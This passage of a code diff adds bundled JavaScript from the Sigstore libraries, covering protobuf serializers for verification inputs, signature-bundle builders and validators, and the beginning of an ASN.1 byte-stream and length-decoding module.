+		            data: isSet(object.artifactUri)
+		                ? { $case: "artifactUri", artifactUri: globalThis.String(object.artifactUri) }
+		                : isSet(object.artifact)
+		                    ? { $case: "artifact", artifact: Buffer.from(bytesFromBase64(object.artifact)) }
+		                    : isSet(object.artifactDigest)
+		                        ? { $case: "artifactDigest", artifactDigest: sigstore_common_1.HashOutput.fromJSON(object.artifactDigest) }
+		                        : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.data?.$case === "artifactUri") {
+		            obj.artifactUri = message.data.artifactUri;
+		        }
+		        else if (message.data?.$case === "artifact") {
+		            obj.artifact = base64FromBytes(message.data.artifact);
+		        }
+		        else if (message.data?.$case === "artifactDigest") {
+		            obj.artifactDigest = sigstore_common_1.HashOutput.toJSON(message.data.artifactDigest);
+		        }
+		        return obj;
+		    },
+		};
+		exports.Input = {
+		    fromJSON(object) {
+		        return {
+		            artifactTrustRoot: isSet(object.artifactTrustRoot) ? sigstore_trustroot_1.TrustedRoot.fromJSON(object.artifactTrustRoot) : undefined,
+		            artifactVerificationOptions: isSet(object.artifactVerificationOptions)
+		                ? exports.ArtifactVerificationOptions.fromJSON(object.artifactVerificationOptions)
+		                : undefined,
+		            bundle: isSet(object.bundle) ? sigstore_bundle_1.Bundle.fromJSON(object.bundle) : undefined,
+		            artifact: isSet(object.artifact) ? exports.Artifact.fromJSON(object.artifact) : undefined,
+		        };
+		    },
+		    toJSON(message) {
+		        const obj = {};
+		        if (message.artifactTrustRoot !== undefined) {
+		            obj.artifactTrustRoot = sigstore_trustroot_1.TrustedRoot.toJSON(message.artifactTrustRoot);
+		        }
+		        if (message.artifactVerificationOptions !== undefined) {
+		            obj.artifactVerificationOptions = exports.ArtifactVerificationOptions.toJSON(message.artifactVerificationOptions);
+		        }
+		        if (message.bundle !== undefined) {
+		            obj.bundle = sigstore_bundle_1.Bundle.toJSON(message.bundle);
+		        }
+		        if (message.artifact !== undefined) {
+		            obj.artifact = exports.Artifact.toJSON(message.artifact);
+		        }
+		        return obj;
+		    },
+		};
+		function bytesFromBase64(b64) {
+		    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+		}
+		function base64FromBytes(arr) {
+		    return globalThis.Buffer.from(arr).toString("base64");
+		}
+		function isSet(value) {
+		    return value !== null && value !== undefined;
+		} 
+	} (sigstore_verification));
+	return sigstore_verification;
+}
+
+var hasRequiredDist$3;
+
+function requireDist$3 () {
+	if (hasRequiredDist$3) return dist$2;
+	hasRequiredDist$3 = 1;
+	(function (exports) {
+		var __createBinding = (dist$2 && dist$2.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    var desc = Object.getOwnPropertyDescriptor(m, k);
+		    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+		      desc = { enumerable: true, get: function() { return m[k]; } };
+		    }
+		    Object.defineProperty(o, k2, desc);
+		}) : (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    o[k2] = m[k];
+		}));
+		var __exportStar = (dist$2 && dist$2.__exportStar) || function(m, exports) {
+		    for (var p in m) if (p !== "default" && !Object.prototype.hasOwnProperty.call(exports, p)) __createBinding(exports, m, p);
+		};
+		Object.defineProperty(exports, "__esModule", { value: true });
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		__exportStar(requireEnvelope(), exports);
+		__exportStar(requireSigstore_bundle(), exports);
+		__exportStar(requireSigstore_common(), exports);
+		__exportStar(requireSigstore_rekor(), exports);
+		__exportStar(requireSigstore_trustroot(), exports);
+		__exportStar(requireSigstore_verification(), exports); 
+	} (dist$2));
+	return dist$2;
+}
+
+var bundle$1 = {};
+
+var hasRequiredBundle$1;
+
+function requireBundle$1 () {
+	if (hasRequiredBundle$1) return bundle$1;
+	hasRequiredBundle$1 = 1;
+	Object.defineProperty(bundle$1, "__esModule", { value: true });
+	bundle$1.BUNDLE_V03_MEDIA_TYPE = bundle$1.BUNDLE_V03_LEGACY_MEDIA_TYPE = bundle$1.BUNDLE_V02_MEDIA_TYPE = bundle$1.BUNDLE_V01_MEDIA_TYPE = void 0;
+	bundle$1.isBundleWithCertificateChain = isBundleWithCertificateChain;
+	bundle$1.isBundleWithPublicKey = isBundleWithPublicKey;
+	bundle$1.isBundleWithMessageSignature = isBundleWithMessageSignature;
+	bundle$1.isBundleWithDsseEnvelope = isBundleWithDsseEnvelope;
+	bundle$1.BUNDLE_V01_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.1';
+	bundle$1.BUNDLE_V02_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.2';
+	bundle$1.BUNDLE_V03_LEGACY_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle+json;version=0.3';
+	bundle$1.BUNDLE_V03_MEDIA_TYPE = 'application/vnd.dev.sigstore.bundle.v0.3+json';
+	// Type guards for bundle variants.
+	function isBundleWithCertificateChain(b) {
+	    return b.verificationMaterial.content.$case === 'x509CertificateChain';
+	}
+	function isBundleWithPublicKey(b) {
+	    return b.verificationMaterial.content.$case === 'publicKey';
+	}
+	function isBundleWithMessageSignature(b) {
+	    return b.content.$case === 'messageSignature';
+	}
+	function isBundleWithDsseEnvelope(b) {
+	    return b.content.$case === 'dsseEnvelope';
+	}
+	return bundle$1;
+}
+
+var hasRequiredBuild;
+
+function requireBuild () {
+	if (hasRequiredBuild) return build;
+	hasRequiredBuild = 1;
+	Object.defineProperty(build, "__esModule", { value: true });
+	build.toMessageSignatureBundle = toMessageSignatureBundle;
+	build.toDSSEBundle = toDSSEBundle;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const protobuf_specs_1 = requireDist$3();
+	const bundle_1 = requireBundle$1();
+	// Message signature bundle - $case: 'messageSignature'
+	function toMessageSignatureBundle(options) {
+	    return {
+	        mediaType: options.certificateChain
+	            ? bundle_1.BUNDLE_V02_MEDIA_TYPE
+	            : bundle_1.BUNDLE_V03_MEDIA_TYPE,
+	        content: {
+	            $case: 'messageSignature',
+	            messageSignature: {
+	                messageDigest: {
+	                    algorithm: protobuf_specs_1.HashAlgorithm.SHA2_256,
+	                    digest: options.digest,
+	                },
+	                signature: options.signature,
+	            },
+	        },
+	        verificationMaterial: toVerificationMaterial(options),
+	    };
+	}
+	// DSSE envelope bundle - $case: 'dsseEnvelope'
+	function toDSSEBundle(options) {
+	    return {
+	        mediaType: options.certificateChain
+	            ? bundle_1.BUNDLE_V02_MEDIA_TYPE
+	            : bundle_1.BUNDLE_V03_MEDIA_TYPE,
+	        content: {
+	            $case: 'dsseEnvelope',
+	            dsseEnvelope: toEnvelope(options),
+	        },
+	        verificationMaterial: toVerificationMaterial(options),
+	    };
+	}
+	function toEnvelope(options) {
+	    return {
+	        payloadType: options.artifactType,
+	        payload: options.artifact,
+	        signatures: [toSignature(options)],
+	    };
+	}
+	function toSignature(options) {
+	    return {
+	        keyid: options.keyHint || '',
+	        sig: options.signature,
+	    };
+	}
+	// Verification material
+	function toVerificationMaterial(options) {
+	    return {
+	        content: toKeyContent(options),
+	        tlogEntries: [],
+	        timestampVerificationData: { rfc3161Timestamps: [] },
+	    };
+	}
+	function toKeyContent(options) {
+	    if (options.certificate) {
+	        if (options.certificateChain) {
+	            return {
+	                $case: 'x509CertificateChain',
+	                x509CertificateChain: {
+	                    certificates: [{ rawBytes: options.certificate }],
+	                },
+	            };
+	        }
+	        else {
+	            return {
+	                $case: 'certificate',
+	                certificate: { rawBytes: options.certificate },
+	            };
+	        }
+	    }
+	    else {
+	        return {
+	            $case: 'publicKey',
+	            publicKey: {
+	                hint: options.keyHint || '',
+	            },
+	        };
+	    }
+	}
+	return build;
+}
+
+var error$3 = {};
+
+var hasRequiredError$3;
+
+function requireError$3 () {
+	if (hasRequiredError$3) return error$3;
+	hasRequiredError$3 = 1;
+	Object.defineProperty(error$3, "__esModule", { value: true });
+	error$3.ValidationError = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	class ValidationError extends Error {
+	    constructor(message, fields) {
+	        super(message);
+	        this.fields = fields;
+	    }
+	}
+	error$3.ValidationError = ValidationError;
+	return error$3;
+}
+
+var serialized = {};
+
+var validate = {};
+
+var hasRequiredValidate;
+
+function requireValidate () {
+	if (hasRequiredValidate) return validate;
+	hasRequiredValidate = 1;
+	Object.defineProperty(validate, "__esModule", { value: true });
+	validate.assertBundle = assertBundle;
+	validate.assertBundleV01 = assertBundleV01;
+	validate.isBundleV01 = isBundleV01;
+	validate.assertBundleV02 = assertBundleV02;
+	validate.assertBundleLatest = assertBundleLatest;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const error_1 = requireError$3();
+	// Performs basic validation of a Sigstore bundle to ensure that all required
+	// fields are populated. This is not a complete validation of the bundle, but
+	// rather a check that the bundle is in a valid state to be processed by the
+	// rest of the code.
+	function assertBundle(b) {
+	    const invalidValues = validateBundleBase(b);
+	    if (invalidValues.length > 0) {
+	        throw new error_1.ValidationError('invalid bundle', invalidValues);
+	    }
+	}
+	// Asserts that the given bundle conforms to the v0.1 bundle format.
+	function assertBundleV01(b) {
+	    const invalidValues = [];
+	    invalidValues.push(...validateBundleBase(b));
+	    invalidValues.push(...validateInclusionPromise(b));
+	    if (invalidValues.length > 0) {
+	        throw new error_1.ValidationError('invalid v0.1 bundle', invalidValues);
+	    }
+	}
+	// Type guard to determine if Bundle is a v0.1 bundle.
+	function isBundleV01(b) {
+	    try {
+	        assertBundleV01(b);
+	        return true;
+	    }
+	    catch (e) {
+	        return false;
+	    }
+	}
+	// Asserts that the given bundle conforms to the v0.2 bundle format.
+	function assertBundleV02(b) {
+	    const invalidValues = [];
+	    invalidValues.push(...validateBundleBase(b));
+	    invalidValues.push(...validateInclusionProof(b));
+	    if (invalidValues.length > 0) {
+	        throw new error_1.ValidationError('invalid v0.2 bundle', invalidValues);
+	    }
+	}
+	// Asserts that the given bundle conforms to the newest (0.3) bundle format.
+	function assertBundleLatest(b) {
+	    const invalidValues = [];
+	    invalidValues.push(...validateBundleBase(b));
+	    invalidValues.push(...validateInclusionProof(b));
+	    invalidValues.push(...validateNoCertificateChain(b));
+	    if (invalidValues.length > 0) {
+	        throw new error_1.ValidationError('invalid bundle', invalidValues);
+	    }
+	}
+	function validateBundleBase(b) {
+	    const invalidValues = [];
+	    // Media type validation
+	    if (b.mediaType === undefined ||
+	        (!b.mediaType.match(/^application\/vnd\.dev\.sigstore\.bundle\+json;version=\d\.\d/) &&
+	            !b.mediaType.match(/^application\/vnd\.dev\.sigstore\.bundle\.v\d\.\d\+json/))) {
+	        invalidValues.push('mediaType');
+	    }
+	    // Content-related validation
+	    if (b.content === undefined) {
+	        invalidValues.push('content');
+	    }
+	    else {
+	        switch (b.content.$case) {
+	            case 'messageSignature':
+	                if (b.content.messageSignature.messageDigest === undefined) {
+	                    invalidValues.push('content.messageSignature.messageDigest');
+	                }
+	                else {
+	                    if (b.content.messageSignature.messageDigest.digest.length === 0) {
+	                        invalidValues.push('content.messageSignature.messageDigest.digest');
+	                    }
+	                }
+	                if (b.content.messageSignature.signature.length === 0) {
+	                    invalidValues.push('content.messageSignature.signature');
+	                }
+	                break;
+	            case 'dsseEnvelope':
+	                if (b.content.dsseEnvelope.payload.length === 0) {
+	                    invalidValues.push('content.dsseEnvelope.payload');
+	                }
+	                if (b.content.dsseEnvelope.signatures.length !== 1) {
+	                    invalidValues.push('content.dsseEnvelope.signatures');
+	                }
+	                else {
+	                    if (b.content.dsseEnvelope.signatures[0].sig.length === 0) {
+	                        invalidValues.push('content.dsseEnvelope.signatures[0].sig');
+	                    }
+	                }
+	                break;
+	        }
+	    }
+	    // Verification material-related validation
+	    if (b.verificationMaterial === undefined) {
+	        invalidValues.push('verificationMaterial');
+	    }
+	    else {
+	        if (b.verificationMaterial.content === undefined) {
+	            invalidValues.push('verificationMaterial.content');
+	        }
+	        else {
+	            switch (b.verificationMaterial.content.$case) {
+	                case 'x509CertificateChain':
+	                    if (b.verificationMaterial.content.x509CertificateChain.certificates
+	                        .length === 0) {
+	                        invalidValues.push('verificationMaterial.content.x509CertificateChain.certificates');
+	                    }
+	                    b.verificationMaterial.content.x509CertificateChain.certificates.forEach((cert, i) => {
+	                        if (cert.rawBytes.length === 0) {
+	                            invalidValues.push(`verificationMaterial.content.x509CertificateChain.certificates[${i}].rawBytes`);
+	                        }
+	                    });
+	                    break;
+	                case 'certificate':
+	                    if (b.verificationMaterial.content.certificate.rawBytes.length === 0) {
+	                        invalidValues.push('verificationMaterial.content.certificate.rawBytes');
+	                    }
+	                    break;
+	            }
+	        }
+	        if (b.verificationMaterial.tlogEntries === undefined) {
+	            invalidValues.push('verificationMaterial.tlogEntries');
+	        }
+	        else {
+	            if (b.verificationMaterial.tlogEntries.length > 0) {
+	                b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+	                    if (entry.logId === undefined) {
+	                        invalidValues.push(`verificationMaterial.tlogEntries[${i}].logId`);
+	                    }
+	                    if (entry.kindVersion === undefined) {
+	                        invalidValues.push(`verificationMaterial.tlogEntries[${i}].kindVersion`);
+	                    }
+	                });
+	            }
+	        }
+	    }
+	    return invalidValues;
+	}
+	// Necessary for V01 bundles
+	function validateInclusionPromise(b) {
+	    const invalidValues = [];
+	    if (b.verificationMaterial &&
+	        b.verificationMaterial.tlogEntries?.length > 0) {
+	        b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+	            if (entry.inclusionPromise === undefined) {
+	                invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionPromise`);
+	            }
+	        });
+	    }
+	    return invalidValues;
+	}
+	// Necessary for V02 and later bundles
+	function validateInclusionProof(b) {
+	    const invalidValues = [];
+	    if (b.verificationMaterial &&
+	        b.verificationMaterial.tlogEntries?.length > 0) {
+	        b.verificationMaterial.tlogEntries.forEach((entry, i) => {
+	            if (entry.inclusionProof === undefined) {
+	                invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof`);
+	            }
+	            else {
+	                if (entry.inclusionProof.checkpoint === undefined) {
+	                    invalidValues.push(`verificationMaterial.tlogEntries[${i}].inclusionProof.checkpoint`);
+	                }
+	            }
+	        });
+	    }
+	    return invalidValues;
+	}
+	// Necessary for V03 and later bundles
+	function validateNoCertificateChain(b) {
+	    const invalidValues = [];
+	    /* istanbul ignore next */
+	    if (b.verificationMaterial?.content?.$case === 'x509CertificateChain') {
+	        invalidValues.push('verificationMaterial.content.$case');
+	    }
+	    return invalidValues;
+	}
+	return validate;
+}
+
+var hasRequiredSerialized;
+
+function requireSerialized () {
+	if (hasRequiredSerialized) return serialized;
+	hasRequiredSerialized = 1;
+	Object.defineProperty(serialized, "__esModule", { value: true });
+	serialized.envelopeToJSON = serialized.envelopeFromJSON = serialized.bundleToJSON = serialized.bundleFromJSON = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const protobuf_specs_1 = requireDist$3();
+	const bundle_1 = requireBundle$1();
+	const validate_1 = requireValidate();
+	const bundleFromJSON = (obj) => {
+	    const bundle = protobuf_specs_1.Bundle.fromJSON(obj);
+	    switch (bundle.mediaType) {
+	        case bundle_1.BUNDLE_V01_MEDIA_TYPE:
+	            (0, validate_1.assertBundleV01)(bundle);
+	            break;
+	        case bundle_1.BUNDLE_V02_MEDIA_TYPE:
+	            (0, validate_1.assertBundleV02)(bundle);
+	            break;
+	        default:
+	            (0, validate_1.assertBundleLatest)(bundle);
+	            break;
+	    }
+	    return bundle;
+	};
+	serialized.bundleFromJSON = bundleFromJSON;
+	const bundleToJSON = (bundle) => {
+	    return protobuf_specs_1.Bundle.toJSON(bundle);
+	};
+	serialized.bundleToJSON = bundleToJSON;
+	const envelopeFromJSON = (obj) => {
+	    return protobuf_specs_1.Envelope.fromJSON(obj);
+	};
+	serialized.envelopeFromJSON = envelopeFromJSON;
+	const envelopeToJSON = (envelope) => {
+	    return protobuf_specs_1.Envelope.toJSON(envelope);
+	};
+	serialized.envelopeToJSON = envelopeToJSON;
+	return serialized;
+}
+
+var hasRequiredDist$2;
+
+function requireDist$2 () {
+	if (hasRequiredDist$2) return dist$3;
+	hasRequiredDist$2 = 1;
+	(function (exports) {
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.isBundleV01 = exports.assertBundleV02 = exports.assertBundleV01 = exports.assertBundleLatest = exports.assertBundle = exports.envelopeToJSON = exports.envelopeFromJSON = exports.bundleToJSON = exports.bundleFromJSON = exports.ValidationError = exports.isBundleWithPublicKey = exports.isBundleWithMessageSignature = exports.isBundleWithDsseEnvelope = exports.isBundleWithCertificateChain = exports.BUNDLE_V03_MEDIA_TYPE = exports.BUNDLE_V03_LEGACY_MEDIA_TYPE = exports.BUNDLE_V02_MEDIA_TYPE = exports.BUNDLE_V01_MEDIA_TYPE = exports.toMessageSignatureBundle = exports.toDSSEBundle = void 0;
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		var build_1 = requireBuild();
+		Object.defineProperty(exports, "toDSSEBundle", { enumerable: true, get: function () { return build_1.toDSSEBundle; } });
+		Object.defineProperty(exports, "toMessageSignatureBundle", { enumerable: true, get: function () { return build_1.toMessageSignatureBundle; } });
+		var bundle_1 = requireBundle$1();
+		Object.defineProperty(exports, "BUNDLE_V01_MEDIA_TYPE", { enumerable: true, get: function () { return bundle_1.BUNDLE_V01_MEDIA_TYPE; } });
+		Object.defineProperty(exports, "BUNDLE_V02_MEDIA_TYPE", { enumerable: true, get: function () { return bundle_1.BUNDLE_V02_MEDIA_TYPE; } });
+		Object.defineProperty(exports, "BUNDLE_V03_LEGACY_MEDIA_TYPE", { enumerable: true, get: function () { return bundle_1.BUNDLE_V03_LEGACY_MEDIA_TYPE; } });
+		Object.defineProperty(exports, "BUNDLE_V03_MEDIA_TYPE", { enumerable: true, get: function () { return bundle_1.BUNDLE_V03_MEDIA_TYPE; } });
+		Object.defineProperty(exports, "isBundleWithCertificateChain", { enumerable: true, get: function () { return bundle_1.isBundleWithCertificateChain; } });
+		Object.defineProperty(exports, "isBundleWithDsseEnvelope", { enumerable: true, get: function () { return bundle_1.isBundleWithDsseEnvelope; } });
+		Object.defineProperty(exports, "isBundleWithMessageSignature", { enumerable: true, get: function () { return bundle_1.isBundleWithMessageSignature; } });
+		Object.defineProperty(exports, "isBundleWithPublicKey", { enumerable: true, get: function () { return bundle_1.isBundleWithPublicKey; } });
+		var error_1 = requireError$3();
+		Object.defineProperty(exports, "ValidationError", { enumerable: true, get: function () { return error_1.ValidationError; } });
+		var serialized_1 = requireSerialized();
+		Object.defineProperty(exports, "bundleFromJSON", { enumerable: true, get: function () { return serialized_1.bundleFromJSON; } });
+		Object.defineProperty(exports, "bundleToJSON", { enumerable: true, get: function () { return serialized_1.bundleToJSON; } });
+		Object.defineProperty(exports, "envelopeFromJSON", { enumerable: true, get: function () { return serialized_1.envelopeFromJSON; } });
+		Object.defineProperty(exports, "envelopeToJSON", { enumerable: true, get: function () { return serialized_1.envelopeToJSON; } });
+		var validate_1 = requireValidate();
+		Object.defineProperty(exports, "assertBundle", { enumerable: true, get: function () { return validate_1.assertBundle; } });
+		Object.defineProperty(exports, "assertBundleLatest", { enumerable: true, get: function () { return validate_1.assertBundleLatest; } });
+		Object.defineProperty(exports, "assertBundleV01", { enumerable: true, get: function () { return validate_1.assertBundleV01; } });
+		Object.defineProperty(exports, "assertBundleV02", { enumerable: true, get: function () { return validate_1.assertBundleV02; } });
+		Object.defineProperty(exports, "isBundleV01", { enumerable: true, get: function () { return validate_1.isBundleV01; } }); 
+	} (dist$3));
+	return dist$3;
+}
+
+var distExports$2 = requireDist$2();
+
+var distExports$1 = requireDist$3();
+
+var dist$1 = {};
+
+var bundle = {};
+
+var dist = {};
+
+var asn1 = {};
+
+var obj = {};
+
+var stream = {};
+
+var hasRequiredStream;
+
+function requireStream () {
+	if (hasRequiredStream) return stream;
+	hasRequiredStream = 1;
+	Object.defineProperty(stream, "__esModule", { value: true });
+	stream.ByteStream = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	class StreamError extends Error {
+	}
+	class ByteStream {
+	    static BLOCK_SIZE = 1024;
+	    buf;
+	    view;
+	    start = 0;
+	    constructor(buffer) {
+	        if (buffer) {
+	            this.buf = buffer;
+	            this.view = Buffer.from(buffer);
+	        }
+	        else {
+	            this.buf = Buffer.alloc(0);
+	            this.view = Buffer.from(this.buf);
+	        }
+	    }
+	    get buffer() {
+	        return this.view.subarray(0, this.start);
+	    }
+	    get length() {
+	        return this.view.byteLength;
+	    }
+	    get position() {
+	        return this.start;
+	    }
+	    seek(position) {
+	        this.start = position;
+	    }
+	    // Returns a Buffer containing the specified number of bytes starting at the
+	    // given start position.
+	    slice(start, len) {
+	        const end = start + len;
+	        if (end > this.length) {
+	            throw new StreamError('request past end of buffer');
+	        }
+	        return this.view.subarray(start, end);
+	    }
+	    appendChar(char) {
+	        this.ensureCapacity(1);
+	        this.view[this.start] = char;
+	        this.start += 1;
+	    }
+	    appendUint16(num) {
+	        this.ensureCapacity(2);
+	        const value = new Uint16Array([num]);
+	        const view = new Uint8Array(value.buffer);
+	        this.view[this.start] = view[1];
+	        this.view[this.start + 1] = view[0];
+	        this.start += 2;
+	    }
+	    appendUint24(num) {
+	        this.ensureCapacity(3);
+	        const value = new Uint32Array([num]);
+	        const view = new Uint8Array(value.buffer);
+	        this.view[this.start] = view[2];
+	        this.view[this.start + 1] = view[1];
+	        this.view[this.start + 2] = view[0];
+	        this.start += 3;
+	    }
+	    appendView(view) {
+	        this.ensureCapacity(view.length);
+	        this.view.set(view, this.start);
+	        this.start += view.length;
+	    }
+	    getBlock(size) {
+	        if (size <= 0) {
+	            return Buffer.alloc(0);
+	        }
+	        if (this.start + size > this.view.length) {
+	            throw new Error('request past end of buffer');
+	        }
+	        const result = this.view.subarray(this.start, this.start + size);
+	        this.start += size;
+	        return result;
+	    }
+	    getUint8() {
+	        return this.getBlock(1)[0];
+	    }
+	    getUint16() {
+	        const block = this.getBlock(2);
+	        return (block[0] << 8) | block[1];
+	    }
+	    ensureCapacity(size) {
+	        if (this.start + size > this.view.byteLength) {
+	            const blockSize = ByteStream.BLOCK_SIZE + (size > ByteStream.BLOCK_SIZE ? size : 0);
+	            this.realloc(this.view.byteLength + blockSize);
+	        }
+	    }
+	    realloc(size) {
+	        const newArray = Buffer.alloc(size);
+	        const newView = Buffer.from(newArray);
+	        // Copy the old buffer into the new one
+	        newView.set(this.view);
+	        this.buf = newArray;
+	        this.view = newView;
+	    }
+	}
+	stream.ByteStream = ByteStream;
+	return stream;
+}
+
+var error$2 = {};
+
+var hasRequiredError$2;
+
+function requireError$2 () {
+	if (hasRequiredError$2) return error$2;
+	hasRequiredError$2 = 1;
+	Object.defineProperty(error$2, "__esModule", { value: true });
+	error$2.ASN1TypeError = error$2.ASN1ParseError = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	class ASN1ParseError extends Error {
+	}
+	error$2.ASN1ParseError = ASN1ParseError;
+	class ASN1TypeError extends Error {
+	}
+	error$2.ASN1TypeError = ASN1TypeError;
+	return error$2;
+}
+
+var length = {};
+
+var hasRequiredLength;
+
+function requireLength () {
+	if (hasRequiredLength) return length;
+	hasRequiredLength = 1;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	Object.defineProperty(length, "__esModule", { value: true });
+	length.decodeLength = decodeLength;
+	length.encodeLength = encodeLength;
+	const error_1 = requireError$2();
+	// Decodes the length of a DER-encoded ANS.1 element from the supplied stream.
+	// https://learn.microsoft.com/en-us/windows/win32/seccertenroll/about-encoded-length-and-value-bytes
+	function decodeLength(stream) {
+	    const buf = stream.getUint8();
+	    // If the most significant bit is UNSET the length is just the value of the
+	    // byte.
+	    if ((buf & 0x80) === 0x00) {
+	        return buf;
+	    }
+	    // Otherwise, the lower 7 bits of the first byte indicate the number of bytes
+	    // that follow to encode the length.
+	    const byteCount = buf & 0x7f;
+	    // Ensure the encoded length can safely fit in a JS number.
+	    if (byteCount > 6) {
+	        throw new error_1.ASN1ParseError('length exceeds 6 byte limit');
+	    }
+	    // Iterate over the bytes that encode the length.
+	    let len = 0;
+	    for (let i = 0; i < byteCount; i++) {
+	        len = len * 256 + stream.getUint8();
+	    }
+	    // This is a valid ASN.1 length encoding, but we don't support it.
+	    if (len === 0) {
+	        throw new error_1.ASN1ParseError('indefinite length encoding not supported');
+	    }
+	    return len;
+	}
+	// Translates the supplied value to a DER-encoded length.
+	function encodeLength(len) {
+	    if (len < 128) {
+	        return Buffer.from([len]);
+	    }
+	    // Bitwise operations on large numbers are not supported in JS, so we need to
+	    // use BigInts.
+	    let val = BigInt(len);
+	    const bytes = [];
+	    while (val > 0n) {
+	        bytes.unshift(Number(val & 255n));
+	        val = val >> 8n;
+	    }
+	    return Buffer.from([0x80 | bytes.length, ...bytes]);
+	}
+	return length;
+}
+
+var parse = {};
+
+var hasRequiredParse;
+
+function requireParse () {
+	if (hasRequiredParse) return parse;
+	hasRequiredParse = 1;
+	Object.defineProperty(parse, "__esModule", { value: true });
+	parse.parseInteger = parseInteger;
+	parse.parseStringASCII = parseStringASCII;
+	parse.parseTime = parseTime;
+	parse.parseOID = parseOID;
+	parse.parseBoolean = parseBoolean;
+	parse.parseBitString = parseBitString;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const RE_TIME_SHORT_YEAR = /^(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\.\d{3})?Z$/;
